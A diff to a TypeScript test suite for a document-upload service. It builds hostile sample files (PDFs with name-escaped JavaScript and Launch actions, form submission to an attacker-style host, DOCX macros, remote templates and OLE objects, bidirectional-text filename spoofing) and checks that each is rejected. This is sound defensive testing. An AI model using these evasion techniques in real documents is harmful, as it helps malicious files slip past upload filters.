@@ -1,9 +1,12 @@
 import { expect } from 'chai';
+import { crc32, deflateSync } from 'node:zlib';
 import mongoose from 'mongoose';
 import { testApp, type TestApp } from '../helpers/app';
 import { samplePdf, samplePng } from '../helpers/samples';
 import { apiAs, type Api } from '../helpers/session';
 import { aWorld, JAN_BSN, type World } from '../helpers/world';
+
+const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
 
 /** Every document of the raw collections, as the database holds it (no mongoose, no decryption). */
 async function rawDatabase(): Promise<string> {
@@ -76,6 +79,29 @@ describe('documents', () => {
     ['a PNG carrying a script inside', () => pngWithText('<script>alert(1)</script>'), 'foto.png', 'image/png', 415, /ingebedde code/],
     ['a PDF with a ZIP appended (polyglot)', () => Buffer.concat([samplePdf(), Buffer.from('PK\x03\x04rest-of-zip', 'latin1')]), 'cv.pdf', 'application/pdf', 415, /na het einde/],
     ['a PDF with JavaScript', () => Buffer.from('%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n', 'latin1'), 'cv.pdf', 'application/pdf', 415, /scripts/],
+    // Actions hidden with name escapes (ISO 32000-1 §7.3.5: #61 is "a", #53 is "S").
+    ['a PDF whose JavaScript is spelled /J#61vaScript', () => pdfWith('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'), 'cv.pdf', 'application/pdf', 415, /scripts/],
+    ['a PDF that launches a program spelled /L#61unch', () => pdfWith('/OpenAction << /S /L#61unch /F (cmd.exe) >>'), 'cv.pdf', 'application/pdf', 415, /acties/],
+    ['a PDF with a link to elsewhere (/URI)', () => pdfWith('/OpenAction << /S /URI /URI (https://aanvaller.example/x) >>'), 'cv.pdf', 'application/pdf', 415, /links naar buiten/],
+    ['a PDF that submits a form elsewhere (/SubmitForm)', () => pdfWith('/AcroForm << /Fields [] >> /OpenAction << /S /SubmitForm /F (https://aanvaller.example/) >>'), 'cv.pdf', 'application/pdf', 415, /formulieren/],
+    ['a PDF with a /Launch action', () => pdfWith('/OpenAction << /S /Launch /Win << /F (calc.exe) >> >>'), 'cv.pdf', 'application/pdf', 415, /acties/],
+    ['a PDF with a bare /JS entry', () => pdfWith('/Names << /JS 2 0 R >>'), 'cv.pdf', 'application/pdf', 415, /scripts/],
+    ['a PDF with automatic actions (/AA)', () => pdfWith('/AA << /O << /S /GoTo /D [0 /Fit] >> >>'), 'cv.pdf', 'application/pdf', 415, /acties/],
+    ['a PDF with /OpenAction running JavaScript inside a compressed object stream', () => pdfWithCompressed('<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>'), 'cv.pdf', 'application/pdf', 415, /scripts/],
+    // Word documents: parts matched whatever their case, remote templates, embedded objects.
+    ['a DOCX with macros named in capitals (word/VBAPROJECT.BIN)', () => docx({ 'word/VBAPROJECT.BIN': 'macro' }), 'brief.docx', DOCX, 415, /macro/],
+    ['a DOCX that loads a remote template (attachedTemplate, TargetMode="External")', () => docx({
+      'word/_rels/settings.xml.rels': relationships('<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://aanvaller.example/sjabloon.dotm" TargetMode="External"/>'),
+    }), 'brief.docx', DOCX, 415, /van buiten/],
+    ['a DOCX with an embedded OLE object', () => docx({ 'word/embeddings/oleObject1.bin': 'ole' }), 'brief.docx', DOCX, 415, /ingebedde objecten/],
+    ['a DOCX with an OLE object under another name', () => docx({
+      'word/_rels/document.xml.rels': relationships('<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="media/x.dat"/>'),
+      'word/media/x.dat': 'ole',
+    }), 'brief.docx', DOCX, 415, /ingebedde objecten/],
+    // File names that read differently from what they are (Unicode bidirectional controls).
+    ...['\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069', '\u200E', '\u200F'].map((control): [string, () => Buffer, string, string, number, RegExp] => [
+      `a file name with U+${control.codePointAt(0)!.toString(16).toUpperCase()}`, () => samplePdf(), `cv${control}fdp.exe.pdf`, 'application/pdf', 400, /leesrichting/,
+    ]),
   ];
   for (const [what, file, filename, contentType, status, message] of rejected) {
     it(`refuse ${what} with a clear error and store nothing`, async () => {
@@ -87,6 +113,27 @@ describe('documents', () => {
       expect(await storedFiles()).to.deep.equal(before);
     });
   }
+
+  it('accept a plain Word document and a PDF with an ordinary compressed page', async () => {
+    await upload(docx({}), 'brief.docx', DOCX).expect(201);
+    await upload(pdfWithCompressed('BT /F1 12 Tf 72 712 Td (Hallo) Tj ET'), 'pagina.pdf', 'application/pdf').expect(201);
+  });
+
+  it('answer a malformed multipart request with 400 problem+json, never 500', async () => {
+    const before = await storedFiles();
+    const bodies: [string, string][] = [
+      ['multipart/form-data', '--x\r\nContent-Disposition: form-data; name="file"\r\n\r\nabc\r\n--x--\r\n'], // no boundary
+      ['multipart/form-data; boundary=x', '--x\r\nContent-Disposition form-data name=file filename=a.pdf\r\nGarbage\r\n\r\n%PDF\r\n--x--\r\n'],
+      ['multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4'], // cut off
+    ];
+    for (const [contentType, body] of bodies) {
+      const response = await anna.agent.post(base).set('x-csrf-token', csrf).set('content-type', contentType).send(body);
+      expect(response.status, `${contentType}: ${JSON.stringify(response.body)}`).to.equal(400);
+      expect(response.headers['content-type']).to.match(/application\/problem\+json/);
+      expect(response.body.detail).to.be.a('string').and.not.match(/Error|busboy|Multipart/);
+    }
+    expect(await storedFiles()).to.deep.equal(before);
+  });
 
   it('refuse two files at once, or none', async () => {
     const two = await anna.agent.post(base).set('x-csrf-token', csrf).field('category', 'cv')
@@ -147,4 +194,69 @@ function pngWithText(text: string): Buffer {
   const length = Buffer.alloc(4);
   length.writeUInt32BE(data.length);
   return Buffer.concat([png.subarray(0, iend), length, Buffer.from('tEXt'), data, Buffer.alloc(4), png.subarray(iend)]);
+}
+
+
+/** A one-page PDF whose catalog carries `entries`. */
+function pdfWith(entries: string): Buffer {
+  return Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${entries} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`, 'latin1');
+}
+
+/** A PDF with `content` in a Flate-compressed stream, where plain text search cannot see it. */
+function pdfWithCompressed(content: string): Buffer {
+  const packed = deflateSync(Buffer.from(content, 'latin1'));
+  return Buffer.concat([
+    Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`, 'latin1'),
+    packed,
+    Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n', 'latin1'),
+  ]);
+}
+
+function relationships(body: string): string {
+  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${body}</Relationships>`;
+}
+
+/** A minimal Word document (stored ZIP, APPNOTE.TXT) with extra or replaced parts. */
+function docx(parts: Record<string, string>): Buffer {
+  const files: Record<string, string> = {
+    '[Content_Types].xml': '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+    '_rels/.rels': relationships('<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'),
+    'word/document.xml': '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Brief</w:t></w:r></w:p></w:body></w:document>',
+    ...parts,
+  };
+  const locals: Buffer[] = [];
+  const centrals: Buffer[] = [];
+  let offset = 0;
+  for (const [name, text] of Object.entries(files)) {
+    const data = Buffer.from(text, 'utf8');
+    const nameBytes = Buffer.from(name, 'utf8');
+    const crc = crc32(data);
+    const local = Buffer.alloc(30);
+    local.writeUInt32LE(0x04034b50, 0);
+    local.writeUInt16LE(20, 4);
+    local.writeUInt32LE(crc, 14);
+    local.writeUInt32LE(data.length, 18);
+    local.writeUInt32LE(data.length, 22);
+    local.writeUInt16LE(nameBytes.length, 26);
+    const central = Buffer.alloc(46);
+    central.writeUInt32LE(0x02014b50, 0);
+    central.writeUInt16LE(20, 4);
+    central.writeUInt16LE(20, 6);
+    central.writeUInt32LE(crc, 16);
+    central.writeUInt32LE(data.length, 20);
+    central.writeUInt32LE(data.length, 24);
+    central.writeUInt16LE(nameBytes.length, 28);
+    central.writeUInt32LE(offset, 42);
+    locals.push(local, nameBytes, data);
+    centrals.push(central, nameBytes);
+    offset += 30 + nameBytes.length + data.length;
+  }
+  const directory = Buffer.concat(centrals);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(Object.keys(files).length, 8);
+  end.writeUInt16LE(Object.keys(files).length, 10);
+  end.writeUInt32LE(directory.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return Buffer.concat([...locals, directory, end]);
 }
